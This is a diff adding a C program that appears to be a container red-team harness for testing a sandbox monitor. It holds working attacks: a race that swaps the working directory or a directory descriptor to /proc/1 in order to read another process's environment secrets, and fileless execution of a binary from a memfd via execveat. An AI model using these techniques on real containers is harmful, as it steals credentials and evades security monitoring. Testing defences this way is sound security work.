@@ -1,0 +1,120 @@
+/* Container red team: attacks that need no mediated call to set up (built static).
+ *
+ *   race-cwd  N      open("environ") N times relative to the cwd while another thread
+ *                    moves the cwd between /tmp/d (an allowed file) and /proc/1
+ *   race-dirfd N     the same with openat(dirfd) while another thread dup2()s /proc/1
+ *                    over the dirfd
+ *   benign-race N    the opens alone (cwd /tmp/d, no flipping): what the model learns
+ *   memfd-exec FILE [flip]  copy FILE into a memfd (one byte changed with "flip") and
+ *                    execveat(memfd, "", AT_EMPTY_PATH) it as "FILE echo RAN"
+ *
+ * The race modes print LEAK when a read returned the secret (TOKEN=...), then the number
+ * of opens that succeeded and failed.
+ */
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <pthread.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+static volatile int stop;
+static int dirfd_slot = 100, fd_good, fd_proc;
+
+static void spin(unsigned n) {
+    for (volatile unsigned i = 0; i < n; i++) {
+    }
+}
+
+static void *flip_cwd(void *arg) {
+    (void)arg;
+    unsigned r = 1;
+    while (!stop) {
+        r = r * 1103515245u + 12345u;
+        if (chdir("/proc/1") != 0) return NULL;
+        spin(200 + (r >> 16) % 4000);
+        if (chdir("/tmp/d") != 0) return NULL;
+        spin(200 + (r >> 8) % 4000);
+    }
+    return NULL;
+}
+
+static void *flip_dirfd(void *arg) {
+    (void)arg;
+    unsigned r = 7;
+    while (!stop) {
+        r = r * 1103515245u + 12345u;
+        dup2(fd_proc, dirfd_slot);
+        spin(200 + (r >> 16) % 4000);
+        dup2(fd_good, dirfd_slot);
+        spin(200 + (r >> 8) % 4000);
+    }
+    return NULL;
+}
+
+static int race(const char *mode, long n) {
+    int use_dirfd = strcmp(mode, "race-dirfd") == 0;
+    int flip = strncmp(mode, "race-", 5) == 0;
+    long ok = 0, bad = 0, leaks = 0;
+    char buf[4096];
+    if (chdir("/tmp/d") != 0) return 2;
+    fd_good = open("/tmp/d", O_PATH | O_DIRECTORY);
+    fd_proc = open("/proc/1", O_PATH | O_DIRECTORY);  /* benign too: the same events */
+    if (fd_good < 0 || fd_proc < 0) return 2;
+    dup2(fd_good, dirfd_slot);
+    pthread_t t;
+    if (flip && pthread_create(&t, NULL, use_dirfd ? flip_dirfd : flip_cwd, NULL) != 0)
+        return 2;
+    for (long i = 0; i < n; i++) {
+        int fd = use_dirfd ? openat(dirfd_slot, "environ", O_RDONLY) : open("environ", O_RDONLY);
+        if (fd < 0) {
+            bad++;
+            continue;
+        }
+        ok++;
+        ssize_t got = read(fd, buf, sizeof buf - 1);
+        close(fd);
+        if (got > 0 && memmem(buf, (size_t)got, "TOKEN=", 6) != NULL) {
+            leaks++;
+            printf("LEAK\n");
+            break;
+        }
+    }
+    stop = 1;
+    if (flip) pthread_join(t, NULL);
+    printf("opens ok %ld failed %ld leaks %ld\n", ok, bad, leaks);
+    return 0;
+}
+
+static int memfd_exec(const char *path, int flip) {
+    int in = open(path, O_RDONLY);
+    if (in < 0) return 2;
+    off_t size = lseek(in, 0, SEEK_END);
+    char *data = malloc((size_t)size);
+    if (data == NULL || pread(in, data, (size_t)size, 0) != size) return 2;
+    close(in);
+    if (flip) {  /* one byte of a message the run does not print */
+        char *s = memmem(data, (size_t)size, "applet not found", 16);
+        if (s == NULL) return 2;
+        s[0] = 'A';
+    }
+    int m = (int)syscall(SYS_memfd_create, "payload", 0);
+    if (m < 0 || write(m, data, (size_t)size) != size) return 2;
+    char *argv[] = {(char *)path, "echo", "RAN", NULL};
+    char *envp[] = {NULL};
+    syscall(SYS_execveat, m, "", argv, envp, AT_EMPTY_PATH);
+    perror("execveat");
+    return 1;
+}
+
+int main(int argc, char **argv) {
+    if (argc >= 3 && strncmp(argv[1], "race-", 5) == 0) return race(argv[1], atol(argv[2]));
+    if (argc >= 3 && strcmp(argv[1], "benign-race") == 0) return race(argv[1], atol(argv[2]));
+    if (argc >= 3 && strcmp(argv[1], "memfd-exec") == 0)
+        return memfd_exec(argv[2], argc > 3 && strcmp(argv[3], "flip") == 0);
+    fprintf(stderr, "usage: container_attacks MODE ARGS\n");
+    return 2;
+}
